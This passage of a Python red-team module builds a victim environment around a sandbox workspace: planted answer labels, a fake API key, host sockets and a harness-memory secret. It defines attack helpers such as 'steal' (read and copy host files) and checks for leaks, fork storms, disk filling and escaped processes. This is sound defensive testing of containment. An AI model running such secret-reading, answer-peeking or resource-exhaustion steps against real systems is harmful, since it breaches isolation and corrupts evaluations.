"""The red-team catalogue for the sandbox (a helper module, not a test module): a realistic victim laid out
around a workspace, the attacks a hostile script would try, and the checks that decide whether each one was
contained. `tests/test_redteam.py` runs them.

The victim (`Victim`): a run folder with `run.json`, the test labels (`answers.csv`), a label database, a
sentinel file, a sibling attempt's workspace with its labels, the task folder with all train labels, a
planted file in the host's /tmp, listeners on 127.0.0.1 (TCP, UDP), on a host unix socket path and on an
abstract unix socket, a victim process of the harness's uid with a secret in its environment, a file the
harness holds open, and a secret in the harness's own memory (its address is given to the scripts). Each
secret holds a marker string that no script is told; any marker in what a script could leave behind (its
stdout, stderr, any file in its workspace) means it read something it must not.

An attack (`Attack`) is a script body (run after a prelude that defines `V`, the victim's parameters, and
`report`, `steal`, `can_open`, `listing`, `attempt`) plus an optional check of its own. The prelude first
re-executes the script in a fresh interpreter, so the bootstrap's audit hook is gone and only the operating
system's wall (namespaces, seccomp, uid, rlimits: all inherited across exec) stands in the way. Every attack
is also held to every general check (`general_problems`): no marker leaked, nothing outside the workspace
changed, no file with the run's tag appeared in the host's /tmp, /dev/shm, / or the Python installation, no
listener heard anything, the victim process lives, the harness got no signal, no process of the attempt
outlived `run`, no symlink, FIFO, socket, device node or set-uid file is left in the workspace and all of it is
the harness's again, and no host file or folder the script read or listed matches the host's. `run_attack`
returns a `Verdict`: "contained", "escaped" (with what escaped; a harness that hangs or raises counts),
"n/a" (a library, tool or kernel feature it needs is missing) or "error" (the script never started, so
nothing was proved). `BareRunner` runs scripts with no wall at all: the control group.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import hashlib
import importlib.util
import json
import os
import secrets
import select
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import tabcoder
from tabcoder.sandbox import ExecutionResult

REPO = Path(__file__).resolve().parents[1]
PACKAGE_DIR = Path(tabcoder.__file__).resolve().parent
REPO_ANSWERS = REPO / "examples" / "answers" / "wine.csv"
HARNESS_GRACE_S = 60.0   # run() must return within the attempt's timeout plus this, or the harness hung
MIB = 1024 * 1024

# What the sandbox may show of the host: the system folders and the Python installation as they are, its own
# /proc, /dev, /sys and a few files of /etc (pseudo folders: not judged), a private /tmp. Listing a folder
# above them may show their first components, and nothing else the host has there.
SYSTEM_DIRS = ("/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32")
PSEUDO_DIRS = ("/proc", "/dev", "/sys", "/etc")


# --------------------------------------------------------------------------- attacks and verdicts


@dataclass(frozen=True)
class Attack:
    name: str
    category: str          # network, reads, writes, processes, resources, forgery, secrets
    body: str              # the script after the prelude
    check: Callable[[Outcome], list[str]] | None = None  # problems of its own, beyond the general checks
    limits: dict = field(default_factory=dict)            # LocalSandbox arguments for this attack
    timeout: float = 20.0
    needs: tuple[str, ...] = ()      # importable modules, all required
    needs_any_exe: tuple[str, ...] = ()  # executables, one of them required
    linger: float = 0.0    # seconds to wait after run() returned before checking (daemons)
    hooked: bool = False   # run in the bootstrap's interpreter (audit hook and all) instead of a fresh one
    probe: Callable[[], str | None] | None = None  # a host-side check: why the attack cannot apply here, or None

    def missing(self) -> str | None:
        for module in self.needs:
            if importlib.util.find_spec(module) is None:
                return f"{module} is not installed"
        if self.needs_any_exe and not any(shutil.which(exe) for exe in self.needs_any_exe):
            return f"none of {', '.join(self.needs_any_exe)} is installed"
        return self.probe() if self.probe is not None else None

    def source(self, params: dict) -> str:
        prelude = PRELUDE.replace("@PARAMS@", repr(json.dumps(params))).replace("@HOOKED@", "1" if self.hooked else "0")
        return prelude + textwrap.dedent(self.body)


@dataclass
class Verdict:
    status: str   # "contained" | "escaped" | "n/a" | "error"
    detail: str

    def line(self, attack: Attack) -> str:
        return f"{attack.name} [{attack.category}] {self.status}: {self.detail}"


@dataclass
class Outcome:
    """What a check gets: the victim, the attack, the sandbox's result and what the script reported."""
    victim: Victim
    attack: Attack
    result: object          # tabcoder.sandbox.ExecutionResult
    out: dict               # the merged REDTEAM-RESULT lines
    elapsed: float          # wall seconds of run()
    ws_after_run: dict      # the workspace's state when run() returned (daemons must not change it later)


PRELUDE = '''\
import atexit, hashlib, json, os, sys
if os.environ.get("REDTEAM_REEXEC") != "1" and "@HOOKED@" != "1":
    # A fresh interpreter: the bootstrap's audit hook is gone, the OS wall (namespaces, seccomp, uid,
    # rlimits) is inherited. What is contained from here on is contained by the wall.
    os.environ["REDTEAM_REEXEC"] = "1"
    os.execv(sys.executable, [sys.executable, os.path.abspath(__file__)])
V = json.loads(@PARAMS@)
_R = {"digests": {}, "listings": {}, "attempts": {}, "opened": []}


def report(**values):
    print("REDTEAM-RESULT " + json.dumps(values, default=repr), flush=True)


def steal(path):
    """Read a file the sandbox should hide; print it and keep a copy in the workspace (where the checks look)."""
    try:
        with open(path, "rb") as handle:
            data = handle.read(1 << 20)
    except Exception as exc:
        _R["attempts"]["read " + path] = repr(exc)
        return None
    _R["digests"][path] = hashlib.sha256(data).hexdigest()
    _R["attempts"]["read " + path] = "read %d bytes" % len(data)
    text = data.decode("utf-8", "replace").replace("\\0", " ")
    print("STOLEN %s: %s" % (path, text[:4000]), flush=True)
    try:
        with open(os.path.join(V["ws"], "stolen.txt"), "a") as out:
            out.write(text)
    except OSError:
        pass
    return data


def can_open(path):
    """Open a host file that may hold real credentials, without reading a byte of it."""
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    except OSError as exc:
        _R["attempts"]["open " + path] = repr(exc)
        return False
    _R["opened"].append(path)
    return True


def listing(path):
    try:
        _R["listings"][path] = sorted(os.listdir(path))
    except Exception as exc:
        _R["attempts"]["list " + path] = repr(exc)


def attempt(label, action):
    """Run one step of an attack; record "ok" or the error. True when it worked."""
    try:
        action()
    except BaseException as exc:
        _R["attempts"][label] = repr(exc)
        return False
    _R["attempts"][label] = "ok"
    return True


def _final():
    print("REDTEAM-RESULT " + json.dumps(_R, default=repr), flush=True)


atexit.register(_final)
print("REDTEAM-START", flush=True)
'''


# --------------------------------------------------------------------------- the victim


def _digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _read_host(path: str, limit: int = 1 << 20) -> bytes | None:
    """The host's own view of `path` (regular files only: a pipe or socket behind /proc/PID/fd would block)."""
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return None
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return None


def walk(top: Path | str):
    """os.walk without recursion (a script may leave a tree deeper than Python's recursion limit) and without
    following links: (folder, subfolders, other entries)."""
    stack = [str(top)]
    while stack:
        folder = stack.pop()
        dirs, others = [], []
        try:
            with os.scandir(folder) as entries:
                for entry in entries:
                    (dirs if entry.is_dir(follow_symlinks=False) else others).append(entry.name)
        except OSError:
            continue
        yield folder, dirs, others
        stack.extend(os.path.join(folder, d) for d in reversed(dirs))


def _cmdline(pid: str) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def _state(pid: str) -> str:
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            return handle.read().rsplit(b")", 1)[1].split()[0].decode()
    except (OSError, IndexError):
        return ""


def _bytes_address(blob: bytes) -> int:
    """Where CPython keeps `blob`'s characters (checked: 0 if this interpreter lays bytes out otherwise)."""
    address = id(blob) + sys.getsizeof(b"") - 1
    return address if ctypes.string_at(address, len(blob)) == blob else 0


class Listeners:
    """Sockets on the host that no attempt may reach. Nothing serves them while a script runs: a connection
    that got through waits in the accept queue (a datagram in the receive buffer) until `drain` reads it."""

    def __init__(self, sock_path: Path, abstract: str):
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(64)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(str(sock_path))
        os.chmod(sock_path, 0o777)  # anyone who can reach the path may connect: the folder is the only wall
        self.unix.listen(64)
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind("\0" + abstract)
        self.abstract.listen(64)
        self.all = {"tcp": self.tcp, "udp": self.udp, "unix path": self.unix, "abstract unix": self.abstract}
        for sock in self.all.values():
            sock.setblocking(False)

    def drain(self) -> list[str]:
        """Everything that reached a listener since the last drain, as lines."""
        heard = []
        for _round in range(50):
            ready, _, _ = select.select(list(self.all.values()), [], [], 0)
            if not ready:
                break
            for sock in ready:
                kind = next(k for k, s in self.all.items() if s is sock)
                try:
                    if sock is self.udp:
                        data, peer = sock.recvfrom(4096)
                        heard.append(f"{kind} listener got a datagram from {peer}: {data[:80]!r}")
                        continue
                    conn, peer = sock.accept()
                except OSError:
                    continue
                with conn:
                    conn.settimeout(0.2)
                    try:
                        data = conn.recv(4096)
                    except OSError:
                        data = b""
                heard.append(f"{kind} listener accepted a connection from {peer or 'a unix peer'}: {data[:80]!r}")
        return heard

    def close(self) -> None:
        for sock in self.all.values():
            sock.close()


class Victim:
    """The host around one workspace: what the attacks aim at, and the state the checks compare."""

    def __init__(self, root: Path, harness_secret: str):
        self.root = Path(root)
        self.token = secrets.token_hex(6)
        self.tag = f"rt-{self.token}"                  # in every name and command line an attack makes
        self.victim_tag = f"redteam-victim-{secrets.token_hex(6)}"
        self.markers = {name: f"SECRET-{name.upper()}-{secrets.token_hex(8)}" for name in
                        ("answers", "runjson", "task", "sibling", "sqlite", "held", "hosttmp")}
        self.markers["harness env"] = harness_secret
        self.markers["victim env"] = f"sk-SECRET-VICTIM-{secrets.token_hex(8)}"
        self.secret_blob = harness_secret.encode()     # the harness's memory holds this, at secret_addr
        self.secret_addr = _bytes_address(self.secret_blob)
        self.run_dir = self.root / "run"
        self.task_dir = self.root / "task"
        self.answers = self.run_dir / "answers.csv"
        self.run_json = self.run_dir / "run.json"
        self.sentinel = self.run_dir / "sentinel.txt"
        self.sqlite_db = self.run_dir / "labels.sqlite"
        self.ws = self.run_dir / "attempts" / "001" / "ws"
        self.sibling_labels = self.run_dir / "attempts" / "002" / "ws" / "input" / "valid_labels.csv"
        self.sock_dir = self.root / "hostsock"
        self.host_sock = self.sock_dir / "agent.sock"
        self.abstract = f"tabcoder-redteam-{self.token}"
        self.held_path = self.root / "held.txt"
        self.tmp_plant = Path("/tmp") / f"plant-{self.token}.txt"
        self.signals: list[int] = []
        self.pristine: dict = {}
        self.victim: subprocess.Popen | None = None

        self.root.mkdir(parents=True, exist_ok=True)
        self.sock_dir.mkdir(mode=0o700)
        self.held_path.write_text(f"held open by the harness: {self.markers['held']}\n")
        self.held = open(self.held_path, "rb")  # kept open: /proc/HARNESS/fd/N must not reach it
        self.tmp_plant.write_text(f"a host /tmp file: {self.markers['hosttmp']}\n")
        self.build()
        self.listeners = Listeners(self.host_sock, self.abstract)
        self._old_usr1 = signal.signal(signal.SIGUSR1, lambda signum, frame: self.signals.append(signum))
        self.start_victim()
        self.pristine = self.snapshot()

    # --- the layout ----------------------------------------------------------------------------------------

    def build(self) -> None:
        """(Re)write the run folder and the task folder exactly as at the start."""
        for folder in (self.run_dir, self.task_dir):
            if folder.exists():
                shutil.rmtree(folder)
        self.task_dir.mkdir()
        rows = [(i, 0.5 * i, (7 * i) % 11, "a" if i % 3 else "b") for i in range(1, 41)]
        rows[-1] = (*rows[-1][:3], self.markers["task"])  # a validation row's label: only the task folder has it
        header = "id,f1,f2,target\n"
        (self.task_dir / "train.csv").write_text(header + "".join(f"{i},{a},{b},{t}\n" for i, a, b, t in rows))
        (self.task_dir / "test.csv").write_text("id,f1,f2\n" + "".join(f"{i},{i / 2},{i % 5}\n" for i in range(41, 51)))
        (self.task_dir / "task.toml").write_text('target = "target"\nid = "id"\nmetric = "accuracy"\n')
        self.answers.parent.mkdir(parents=True)
        self.answers.write_text("id,target\n" + f"41,{self.markers['answers']}\n"
                                + "".join(f"{i},{'a' if i % 2 else 'b'}\n" for i in range(42, 51)))
        self.run_json.write_text(json.dumps({
            "task": {"name": "victim", "source_path": str(self.task_dir)},
            "config": {"answers": str(self.answers)}, "note": self.markers["runjson"]}, indent=2))
        self.sentinel.write_text(f"sentinel {self.token}: must never change\n")
        (self.run_dir / "unlink-me.txt").write_text("must stay\n")
        with contextlib.closing(sqlite3.connect(self.sqlite_db)) as db:
            db.execute("CREATE TABLE labels (id INTEGER, label TEXT)")
            db.execute("INSERT INTO labels VALUES (41, ?)", (self.markers["sqlite"],))
            db.commit()
        self.sibling_labels.parent.mkdir(parents=True)
        self.sibling_labels.write_text(f"id,target\n31,{self.markers['sibling']}\n32,b\n")
        self.reset_workspace()

    def reset_workspace(self) -> None:
        # rm copes with trees deeper than shutil.rmtree's recursion, and with any mode the script left
        subprocess.run(["rm", "-rf", "--one-file-system", str(self.ws)], check=True)
        (self.ws / "input").mkdir(parents=True)
        lines = (self.task_dir / "train.csv").read_text().splitlines(keepends=True)
        (self.ws / "input" / "train.csv").write_text("".join(lines[:31]))  # header + rows 1..30
        test = [",".join(line.split(",")[:3]) + "\n" for line in lines[31:]]
        (self.ws / "input" / "test.csv").write_text("id,f1,f2\n" + "".join(test))

    def start_victim(self) -> None:
        self.victim = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(3600)", self.victim_tag],
            env={**os.environ, "OPENAI_API_KEY": self.markers["victim env"]}, start_new_session=True,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def params(self) -> dict:
        """What a script is told (paths, ports, pids; never a marker)."""
        st = os.stat("/")
        return {
            "ws": str(self.ws), "root": str(self.root), "run_dir": str(self.run_dir), "task_dir": str(self.task_dir),
            "answers": str(self.answers), "run_json": str(self.run_json), "sentinel": str(self.sentinel),
            "sqlite_db": str(self.sqlite_db), "sibling_labels": str(self.sibling_labels),
            "host_sock": str(self.host_sock), "abstract": self.abstract,
            "tcp_port": self.listeners.tcp.getsockname()[1], "udp_port": self.listeners.udp.getsockname()[1],
            "harness_pid": os.getpid(), "harness_pgid": os.getpgid(0), "harness_uid": os.getuid(),
            "victim_pid": self.victim.pid, "victim_tag": self.victim_tag,
            "secret_addr": self.secret_addr, "secret_len": len(self.secret_blob),
            "tag": self.tag, "tmp_plant": str(self.tmp_plant), "python": sys.executable,
            "venv_site": sysconfig.get_paths()["purelib"],
            "base_site": sysconfig.get_paths(vars={"base": sys.base_prefix, "platbase": sys.base_prefix})["purelib"],
            "package_dir": str(PACKAGE_DIR), "repo": str(REPO), "repo_answers": str(REPO_ANSWERS),
            "root_dev": [os.major(st.st_dev), os.minor(st.st_dev)],
        }

    # --- state and checks ----------------------------------------------------------------------------------

    def snapshot(self) -> dict:
        """Everything under the victim's root except the workspace: type, mode, size, content hash."""
        state = {}
        for folder, dirs, files in walk(self.root):
            if Path(folder) == self.ws or self.ws in Path(folder).parents:
                continue
            for name in [*dirs, *files]:
                path = os.path.join(folder, name)
                if Path(path) == self.ws:
                    continue
                state[os.path.relpath(path, self.root)] = _entry(path)
        return state

    def ws_state(self) -> dict:
        state = {}
        for folder, dirs, files in walk(self.ws):
            for name in [*dirs, *files]:
                path = os.path.join(folder, name)
                state[os.path.relpath(path, self.ws)] = _entry(path)
        return state

    def token_dirs(self) -> list[str]:
        params = self.params()
        return sorted({"/tmp", "/dev/shm", "/var/tmp", "/", str(self.root), params["venv_site"],
                       params["base_site"], str(PACKAGE_DIR)})

    def token_files(self) -> list[str]:
        found = []
        for folder in self.token_dirs():
            with contextlib.suppress(OSError):
                found += [os.path.join(folder, n) for n in os.listdir(folder) if self.tag in n]
        return found

    def attempt_processes(self) -> list[tuple[int, str]]:
        """Host processes that belong to an attempt: the run's tag or the workspace in their command line, or
        their working folder in the workspace (the sandbox shows it at its host path)."""
        found = []
        needles = (self.tag.encode(), str(self.ws).encode())
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            line = _cmdline(pid)
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                cwd = ""
            if any(needle in line for needle in needles) or cwd == str(self.ws) or cwd.startswith(f"{self.ws}/"):
                if _state(pid) not in ("Z", "X", ""):  # a zombie is dead (it only waits to be reaped)
                    found.append((int(pid), f"[{_state(pid)}] " + line.replace(b"\0", b" ").decode(errors="replace")[:160]))
        return found

    def leftover_processes(self, grace: float = 3.0) -> list[tuple[int, str]]:
        """Processes of the attempt still alive `grace` seconds after run() (a process killed while holding
        gigabytes takes a moment to give them back; it runs no code of its own meanwhile)."""
        deadline = time.monotonic() + grace
        while True:
            found = self.attempt_processes()
            if not found or time.monotonic() > deadline:
                return found
            time.sleep(0.1)

    def markers_in(self, texts: list[str]) -> list[str]:
        found = []
        for name, marker in self.markers.items():
            for where, text in texts:
                if marker in text:
                    found.append(f"the {name} secret ({marker[:18]}...) leaked into {where}")
                    break
        return found

    def workspace_texts(self) -> list[tuple[str, str]]:
        texts = []
        for folder, _dirs, files in walk(self.ws):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    st = os.lstat(path)
                    if not stat.S_ISREG(st.st_mode):
                        continue
                    with open(path, "rb") as handle:
                        if st.st_size <= 32 * MIB:
                            data = handle.read()
                        else:  # the resource attacks' big files: their ends are enough
                            data = handle.read(MIB)
                            handle.seek(-MIB, os.SEEK_END)
                            data += handle.read(MIB)
                except OSError:
                    continue
                texts.append((f"workspace file {os.path.relpath(path, self.ws)}", data.decode("latin-1")))
        return texts

    # --- between attacks -----------------------------------------------------------------------------------

    def cleanup(self) -> None:
        """Undo what an escaped attack left: its processes, its files, a dead victim, a changed layout."""
        for pid, _line in self.attempt_processes():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        for path in self.token_files():
            with contextlib.suppress(OSError):
                if os.path.isdir(path) and not os.path.islink(path):
                    shutil.rmtree(path)
                else:
                    os.unlink(path)
        if self.victim.poll() is not None:
            self.start_victim()
        if not self.tmp_plant.is_file():
            self.tmp_plant.write_text(f"a host /tmp file: {self.markers['hosttmp']}\n")
        if self.snapshot() != self.pristine:
            self.build()
            self.pristine = self.snapshot()
        self.reset_workspace()
        self.listeners.drain()
        self.signals.clear()

    def close(self) -> None:
        self.cleanup()
        signal.signal(signal.SIGUSR1, self._old_usr1)
        if self.victim.poll() is None:
            self.victim.kill()
        self.victim.wait()
        self.listeners.close()
        self.held.close()
        self.tmp_plant.unlink(missing_ok=True)


def _entry(path: str) -> tuple:
    try:
        st = os.lstat(path)
    except OSError:
        return ("gone",)
    if stat.S_ISDIR(st.st_mode):
        return ("dir",)
    if stat.S_ISREG(st.st_mode):
        digest = None
        if st.st_size <= 4 * MIB:
            with contextlib.suppress(OSError), open(path, "rb") as handle:
                digest = _digest(handle.read())
        return ("file", stat.S_IMODE(st.st_mode), st.st_size, st.st_mtime_ns, st.st_ino, digest, st.st_uid)
    return ("special", stat.S_IFMT(st.st_mode))


def _diff(before: dict, after: dict) -> list[str]:
    changes = []
    for path in sorted(set(before) | set(after)):
        old, new = before.get(path), after.get(path)
        if old == new:
            continue
        if old is None:
            changes.append(f"{path} appeared")
        elif new is None:
            changes.append(f"{path} disappeared")
        else:
            changes.append(f"{path} changed ({_what_changed(old, new)})")
    return changes


def _what_changed(old: tuple, new: tuple) -> str:
    if old[0] != new[0]:
        return f"{old[0]} -> {new[0]}"
    names = ("kind", "mode", "size", "mtime", "inode", "content", "owner")
    return ", ".join(n for n, a, b in zip(names, old, new) if a != b)


# --------------------------------------------------------------------------- the general checks


def shown_roots(victim: Victim) -> list[str]:
    """The host folders the sandbox shows as they are (read-only, or the workspace read-write)."""
    roots = [*SYSTEM_DIRS, sys.prefix, sys.base_prefix, sys.exec_prefix, os.path.dirname(sys.executable),
             os.path.dirname(os.path.realpath(sys.executable)), str(PACKAGE_DIR), str(victim.ws),
             *[p for p in sys.path if p and os.path.isabs(p)]]
    return sorted({os.path.realpath(r) for r in roots} | set(roots))


def listing_leaks(victim: Victim, folder: str, names: list[str]) -> list[str]:
    """Names a script saw in `folder` that the host has there and that lead to nothing the sandbox may show.
    Folders the sandbox shows as they are, and its own pseudo folders (/proc, /dev, /sys, /etc), are not judged."""
    roots = shown_roots(victim)
    folder = os.path.normpath(folder)
    if any(folder == r or folder.startswith(r.rstrip("/") + "/") for r in [*roots, *PSEUDO_DIRS]):
        return []
    prefix = "/" if folder == "/" else folder + "/"
    allowed = {r[len(prefix):].split("/")[0] for r in [*roots, *PSEUDO_DIRS, "/tmp"] if r.startswith(prefix)}
    try:
        host = set(os.listdir(folder))
    except OSError:
        return []
    return sorted((set(names) & host) - allowed)


def general_problems(o: Outcome, before: dict) -> list[str]:
    v, r = o.victim, o.result
    problems = v.markers_in([("stdout", r.stdout or ""), ("stderr", r.stderr or ""),
                             ("the traceback", r.traceback or ""), *v.workspace_texts()])
    problems += [f"outside the workspace: {change}" for change in _diff(before, v.snapshot())]
    problems += [f"a file of the attack outside the sandbox: {path}" for path in v.token_files()]
    problems += v.listeners.drain()
    if v.victim.poll() is not None:
        problems.append(f"the victim process (pid {v.victim.pid}) was killed (status {v.victim.returncode})")
    if v.signals:
        problems.append(f"the harness received signal(s) {sorted(set(v.signals))}")
    for pid, line in v.leftover_processes():
        problems.append(f"process {pid} of the attempt outlived run(): {line}")
    owners = set()
    for path, entry in sorted(v.ws_state().items()):
        if entry[0] == "special":
            problems.append(f"{_short(path)} in the workspace is a {_kind_name(v.ws / path)} after run()")
        elif entry[0] == "file" and entry[1] & (stat.S_ISUID | stat.S_ISGID):
            problems.append(f"{_short(path)} in the workspace is set-uid/set-gid (mode {oct(entry[1])}, owner "
                            f"{entry[6]}) after run()")
        with contextlib.suppress(OSError):
            owners.add(os.lstat(v.ws / path).st_uid)
    if owners - {os.getuid()}:
        problems.append(f"the workspace was not handed back: entries owned by uid(s) {sorted(owners - {os.getuid()})}")
    for path, digest in (o.out.get("digests") or {}).items():
        data = _read_host(path)
        if data and _digest(data) == digest:
            problems.append(f"read the host's {path} ({len(data)} bytes, the same as the host's)")
    opened = [p for p in o.out.get("opened") or [] if os.path.exists(p)]
    if opened:
        problems.append(f"opened host files: {', '.join(opened)}")
    for folder, names in (o.out.get("listings") or {}).items():
        leaked = listing_leaks(v, folder, names)
        if leaked:
            problems.append(f"listed host entries of {folder}: {', '.join(leaked[:8])}")
    return problems


def _short(path: str) -> str:
    depth = path.count("/")
    return path if len(path) <= 100 else f"{path[:30]}...{path[-40:]} (depth {depth})"


def _kind_name(path: Path) -> str:
    try:
        mode = os.lstat(path).st_mode
    except OSError:
        return "vanished entry"
    for test, name in ((stat.S_ISLNK, "symlink"), (stat.S_ISFIFO, "FIFO"), (stat.S_ISSOCK, "socket"),
                       (stat.S_ISCHR, "character device"), (stat.S_ISBLK, "block device")):
        if test(mode):
            return name
    return "special file"


# --------------------------------------------------------------------------- running one attack


def parse_out(text: str) -> dict:
    merged: dict = {}
    for line in (text or "").splitlines():
        if not line.startswith("REDTEAM-RESULT "):
            continue
        try:
            values = json.loads(line[len("REDTEAM-RESULT "):])
        except ValueError:
            continue
        for key, value in values.items():
            if isinstance(value, dict) and isinstance(merged.get(key), dict):
                merged[key].update(value)
            else:
                merged[key] = value
    return merged


def _run_with_deadline(run: Callable[[], object], seconds: float) -> tuple[object | None, BaseException | None]:
    box: dict = {}

    def target() -> None:
        try:
            box["result"] = run()
        except BaseException as exc:  # noqa: BLE001 - handed to the caller
            box["error"] = exc

    thread = threading.Thread(target=target, name="redteam-run", daemon=True)
    thread.start()
    thread.join(seconds)
    if thread.is_alive():
        return None, TimeoutError(f"run() did not return within {seconds:.0f} s")
    return box.get("result"), box.get("error")


def run_attack(attack: Attack, victim: Victim, sandbox_for: Callable[[dict], object]) -> Verdict:
    """Run one attack against a freshly reset victim and judge it."""
    missing = attack.missing()
    if missing:
        return Verdict("n/a", missing)
    victim.cleanup()
    before = victim.snapshot()
    script = victim.ws / "solution.py"
    script.write_text(attack.source(victim.params()))
    sandbox = sandbox_for(attack.limits)
    started = time.monotonic()
    result, error = _run_with_deadline(lambda: sandbox.run(script, victim.ws, timeout=attack.timeout),
                                       attack.timeout + HARNESS_GRACE_S)
    elapsed = time.monotonic() - started
    crashed = []
    if error is not None:  # a hostile script must never break the harness: a hang or an exception is an escape
        what = "hung" if isinstance(error, TimeoutError) else "crashed"
        crashed = [f"the harness {what}: run() {'did not return' if what == 'hung' else 'raised'} {error!r}"]
        result = ExecutionResult(exit_code=None, timed_out=False, duration=elapsed, stdout="", stderr="",
                                 killed_by=None, traceback=None, peak_memory_mb=None)
    ws_after_run = victim.ws_state()
    if attack.linger:
        time.sleep(attack.linger)
    outcome = Outcome(victim, attack, result, parse_out(f"{result.stdout}\n{result.stderr}"), elapsed,
                      ws_after_run)
    problems = crashed + general_problems(outcome, before)
    if attack.check is not None and not crashed:
        problems += attack.check(outcome)
    if problems:
        return Verdict("escaped", "; ".join(problems))
    if "REDTEAM-START" not in (result.stdout or ""):
        return Verdict("error", f"the script never started (exit {result.exit_code}, killed_by {result.killed_by}): "
                                f"{(result.stderr or '')[-600:]}")
    return Verdict("contained", _summary(outcome))


def _summary(o: Outcome) -> str:
    r = o.result
    parts = [f"exit {r.exit_code}" + (f", killed_by {r.killed_by}" if r.killed_by else "") + f", {o.elapsed:.1f} s"]
    seen = {k: v for k, v in o.out.items() if k not in ("digests", "listings", "attempts")}
    if seen:
        parts.append(json.dumps(seen, default=str)[:300])
    attempts = o.out.get("attempts") or {}
    if attempts:
        parts.append("; ".join(f"{k}: {v}" for k, v in list(attempts.items())[:6])[:400])
    return " | ".join(parts)


class BareRunner:
    """No wall at all: `python SCRIPT` in the workspace with the harness's API key in its environment and, as a
    careless wall would, a descriptor of the workspace folder; its process group is killed on timeout. The
    control group: an attack that is contained here proves nothing about a sandbox."""

    isolation = {"level": "none", "wall": "none", "summary": "no sandbox (red-team control)"}

    def __init__(self, **_limits):
        pass

    def run(self, script: Path, workdir: Path, *, timeout: float) -> ExecutionResult:
        started = time.monotonic()
        with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
            env = {"PATH": os.environ.get("PATH", os.defpath), "HOME": str(workdir)}
            env.update({k: v for k, v in os.environ.items() if k == "OPENAI_API_KEY"})  # the harness's (fake) key
            leaked = os.open(workdir, os.O_PATH)
            try:
                process = subprocess.Popen([sys.executable, str(script)], cwd=workdir, stdout=out, stderr=err,
                                           stdin=subprocess.DEVNULL, start_new_session=True, env=env,
                                           pass_fds=(leaked,))
            finally:
                os.close(leaked)
            try:
                process.wait(timeout)
                timed_out = False
            except subprocess.TimeoutExpired:
                timed_out = True
            with contextlib.suppress(OSError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()
            texts = []
            for handle in (out, err):
                handle.seek(0)
                texts.append(handle.read(4 * MIB).decode(errors="replace"))
        code = process.returncode
        return ExecutionResult(exit_code=None if timed_out or code < 0 else code, timed_out=timed_out,
                               duration=time.monotonic() - started, stdout=texts[0], stderr=texts[1],
                               killed_by="timeout" if timed_out else (f"signal {-code}" if code < 0 else None),
                               traceback=None, peak_memory_mb=None)


# --------------------------------------------------------------------------- checks of single attacks


def flag(key: str, what: str) -> Callable[[Outcome], list[str]]:
    """An escape when the script reports a true (non-empty) `key`."""
    def check(o: Outcome) -> list[str]:
        value = o.out.get(key)
        return [f"{what}: {value}"] if value else []
    return check


def both(*checks: Callable[[Outcome], list[str]]) -> Callable[[Outcome], list[str]]:
    def check(o: Outcome) -> list[str]:
        return [problem for c in checks for problem in c(o)]
    return check


def harness_can_fork(o: Outcome) -> list[str]:
    try:
        done = subprocess.run(["true"], timeout=10)
    except (OSError, subprocess.SubprocessError) as exc:
        return [f"the harness cannot start a process after the attack: {exc}"]
    return [] if done.returncode == 0 else [f"`true` failed in the harness after the attack ({done.returncode})"]


def check_fork_storm(o: Outcome) -> list[str]:
    forked, cap = o.out.get("forked"), o.attack.limits["pids"]
    problems = harness_can_fork(o)
    if forked is None and o.result.killed_by is None:
        problems.append("the script did not report how many processes it got")
    elif forked is not None and forked > cap:
        problems.append(f"forked {forked} sleepers under a cap of {cap} processes")
    return problems


def check_memory(o: Outcome) -> list[str]:
    held = o.out.get("held") or 0
    if o.result.killed_by == "memory":
        return []
    if held * 1536 > o.attack.limits["memory_mb"]:
        return [f"{held} children held 1.5 GB each at the same time under memory_mb="
                f"{o.attack.limits['memory_mb']} (killed_by {o.result.killed_by}, peak {o.result.peak_memory_mb} MB)"]
    return []


def check_huge_file(o: Outcome) -> list[str]:
    cap = o.attack.limits["file_size_mb"] * MIB
    try:
        size = os.lstat(o.victim.ws / "big.bin").st_size
    except OSError:
        size = 0
    problems = []
    if size > cap:
        problems.append(f"big.bin is {size / MIB:.0f} MB, over file_size_mb={cap // MIB}")
    if o.out.get("complete"):
        problems.append("the script wrote all 200 MB without an error")
    return problems


def check_disk(o: Outcome) -> list[str]:
    written = o.out.get("written_mb") or 0
    if o.result.killed_by == "disk" or o.out.get("error"):
        return []
    on_disk = sum(e[2] for e in o.victim.ws_state().values() if e[0] == "file") / MIB
    return [f"wrote {written} MB in the workspace under disk_mb={o.attack.limits['disk_mb']} and was not stopped "
            f"(killed_by {o.result.killed_by}, exit {o.result.exit_code}; {on_disk:.0f} MB left on disk)"]


def fill_script(folder: str, megabytes: int) -> str:
    """An attack that writes `megabytes` MiB, one at a time, into one file of `folder`, and reports how far it got."""
    return f"""
        chunk = b"\\1" * (1 << 20)
        written = 0
        try:
            with open("{folder}/" + V["tag"] + "-fill", "wb") as handle:
                for i in range({megabytes}):
                    handle.write(chunk)
                    handle.flush()
                    written += 1
